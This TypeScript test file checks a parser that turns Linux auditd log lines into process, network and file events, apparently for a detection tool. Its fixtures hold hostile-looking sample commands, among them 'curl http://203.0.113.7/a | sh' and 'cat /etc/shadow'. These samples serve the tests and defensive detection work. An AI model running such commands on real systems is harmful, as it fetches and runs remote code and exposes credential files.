import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { NativeEventRecord } from '../../src/normalize/native-event-record.ts';
import { auditd } from '../../src/sources/auditd.ts';

const context = { receivedAt: new Date('2026-03-05T00:00:00Z') };
const fixture = (file: string) =>
  readFileSync(join(import.meta.dirname, '..', 'fixtures', 'sources', 'auditd', file), 'utf8');
function one(record: unknown): NativeEventRecord {
  const [event, ...more] = [auditd.read(record, context)].flat();
  if (event === undefined || 'error' in event || more.length > 0) throw new Error(JSON.stringify(event));
  return event;
}
const line = (type: string, rest: string, id = '1772366405.123:42') => `type=${type} msg=audit(${id}): ${rest}`;
const fields = (type: string, rest: string) => one(line(type, rest)).event;
const entities = (event: NativeEventRecord | undefined) =>
  event?.facts().entities.map((e) => `${e.role} ${e.type}:${e.value}`);
const joined = (...lines: string[]) => auditd.join?.(lines.map((text) => one(text))) ?? [];

describe('a line of auditd', () => {
  it('is an event with the raw names of its fields, at its time, of the service the rules name', () => {
    const event = one(line('PATH', 'item=0 name="/etc/shadow" inode=26845 mode=0100640 nametype=NORMAL'));
    expect(event.event).toEqual({
      type: 'PATH',
      msg: 'audit(1772366405.123:42)',
      item: '0',
      name: '/etc/shadow',
      inode: '26845',
      mode: '0100640',
      nametype: 'NORMAL',
    });
    expect(event.time.toISOString()).toBe('2026-03-01T12:00:05.123Z');
    expect(event.logsource).toEqual({ product: 'linux', service: 'auditd' });
  });

  it('has what the kernel writes in hexadecimal digits as text', () => {
    expect(fields('PROCTITLE', 'proctitle=636174002F6574632F736861646F77')).toMatchObject({
      proctitle: 'cat /etc/shadow',
    });
    expect(one(fixture('execve-argument.log')).event).toMatchObject({
      a0: 'bash',
      a1: '-c',
      a2: 'curl http://203.0.113.7/a | sh',
    });
    expect(fields('SYSCALL', 'a0=55D0 a1=10 syscall=59 comm=6120 exe="/usr/bin/b"')).toMatchObject({
      a0: '55D0',
      a1: '10',
      comm: 'a',
      exe: '/usr/bin/b',
    });
    expect(fields('PATH', 'name=(null) item=0')).toMatchObject({ name: '(null)' });
    expect(fields('EXECVE', 'argc=2 a0="x" a1_len=6 a1[0]="abc" a1[1]=646566')).toMatchObject({ a1: 'abcdef' });
  });

  it('has what the daemon adds in words, and what a program says in its message', () => {
    expect(one(fixture('syscall-enriched.log')).event).toMatchObject({
      SYSCALL: 'execve',
      UID: 'www-data',
      key: 'exec',
    });
    const command = one(JSON.parse(fixture('user-command-wrapped.json')));
    expect(command.event).toMatchObject({ type: 'USER_CMD', cmd: 'cat /etc/shadow', res: 'success', host: 'build-3' });
    expect(command.event.msg).toBe('audit(1772366406.717:4212)');
    expect(fields('SOCKADDR', 'saddr=0200\x1dSADDR={ saddr_fam=inet laddr=203.0.113.7 lport=80 }')).toMatchObject({
      laddr: '203.0.113.7',
      lport: '80',
    });
  });

  it('names the call of a SYSCALL also where the daemon does not', () => {
    expect(fields('SYSCALL', 'arch=c000003e syscall=322')).toMatchObject({ SYSCALL: 'execveat' });
    expect(fields('SYSCALL', 'arch=c00000b7 syscall=221')).toMatchObject({ SYSCALL: 'execve' });
    expect(fields('SYSCALL', 'arch=c000003e syscall=0')).not.toHaveProperty('SYSCALL');
  });

  it('cannot claim to be of another type or event than its head says', () => {
    expect(fields('USER_CMD', 'msg=\'type=EXECVE msg=audit(1.000:1) a0="x"\'')).toMatchObject({
      type: 'USER_CMD',
      msg: 'audit(1772366405.123:42)',
    });
  });

  it('is known behind syslog and node names, and nothing else is', () => {
    const text = line('LOGIN', 'pid=1 res=1');
    expect(entities(one(`node=web-01 ${text}`))).toContain('host host:web-01');
    expect(one(`Mar  1 12:00:05 web-01 audisp-syslog: ${text}`).event.type).toBe('LOGIN');
    expect(one('audit: type=1309 audit(1772366405.123:42): argc=1 a0="ls"').event.type).toBe('EXECVE');
    for (const other of ['', 'type=LOGIN', 'msg=audit(1.1:1): type=', 7, null, {}, { message: 'hello' }])
      expect(auditd.read(other, context)).toHaveProperty('error');
  });

  it('takes no longer than its length, whatever is in it', () => {
    for (const part of ['a=', '"', "msg='", 'a0[1]=', ' ', '=', '\x1d', 'x=" ']) {
      const text = line('EXECVE', part.repeat(1_000_000 / part.length));
      expect(auditd.read(text, context)).toHaveLength(1);
    }
  });
});

describe('the lines of one audit event', () => {
  const call = line('SYSCALL', 'arch=c000003e syscall=59 ppid=812 pid=9001 uid=33 auid=1001 exe="/usr/bin/bash"');
  const start = line('EXECVE', 'argc=3 a0="bash" a1="-c" a2="id"');

  it('that start a program are a process creation together', () => {
    const [event, ...more] = joined(call, start, line('CWD', 'cwd="/var/www"'), line('PROCTITLE', 'proctitle="bash"'));
    expect(more).toEqual([]);
    expect(event?.logsource).toEqual({ product: 'linux', category: 'process_creation' });
    expect(event?.event).toEqual({
      Image: '/usr/bin/bash',
      CommandLine: 'bash -c id',
      CurrentDirectory: '/var/www',
      ProcessId: '9001',
      ParentProcessId: '812',
      User: '33',
      AUID: '1001',
    });
    expect(event?.facts().quoted).toContainEqual(['command line', 'bash -c id']);
  });

  it('have the command line of the title when the arguments are missing, and make nothing without either', () => {
    expect(joined(call, line('PROCTITLE', 'proctitle=6C73002D6C'))[0]?.event).toMatchObject({ CommandLine: 'ls -l' });
    expect(joined(call)).toEqual([]);
    expect(joined(start)).toEqual([]);
    expect(joined(call.replace('ppid', 'success=no ppid'), start)).toEqual([]);
  });

  it('that speak to an address are a network connection, in IPv4 and IPv6', () => {
    const connect = line('SYSCALL', 'arch=c000003e syscall=42 pid=9 exe="/usr/bin/curl"');
    const to = (saddr: string) => joined(connect, line('SOCKADDR', `saddr=${saddr}`))[0];
    expect(to('02000D05CB0071070000000000000000')?.event).toMatchObject({
      Image: '/usr/bin/curl',
      DestinationIp: '203.0.113.7',
      DestinationPort: '3333',
    });
    const six = to(`0A0001BB00000000${'20010DB8'}${'0'.repeat(22)}07${'0'.repeat(8)}`);
    expect(entities(six)).toContain('destination ip:2001:db8::7');
    expect(to('01002F72756E2F78')).toBeUndefined();
  });

  it('that make files are file events with whole paths', () => {
    const write = line('SYSCALL', 'arch=c000003e syscall=257 pid=9 exe="/usr/bin/php"');
    const paths = [
      line('PATH', 'item=1 name="./a.php" nametype=CREATE'),
      line('PATH', 'item=0 name="/x" nametype=PARENT'),
    ];
    const events = joined(write, line('CWD', 'cwd="/var/www/"'), ...paths);
    expect(events.map(({ event }) => event.TargetFilename)).toEqual(['/var/www/a.php']);
    expect(events[0]?.logsource?.category).toBe('file_event');
  });

  it('say each what the others say of who did it', () => {
    const parts = [call.replace('uid=33', 'uid=33 UID="www-data"'), start, line('CWD', 'cwd="/var/www"')].map(one);
    expect(parts[1]?.facts(parts).entities.map((e) => e.value)).toEqual(['/usr/bin/bash', 'www-data']);
    expect(parts[1]?.facts(parts).quoted).toContainEqual(['in', '/var/www']);
    expect(parts[1]?.facts().entities).toEqual([]);
  });

  it('are known by host and number', () => {
    expect(one(call).partOf).toBe(one(start).partOf);
    expect(one(`node=web-01 ${call}`).partOf).not.toBe(one(`node=web-02 ${start}`).partOf);
    expect(one(line('CWD', 'cwd="/"', '1772366405.123:43')).partOf).not.toBe(one(call).partOf);
  });
});
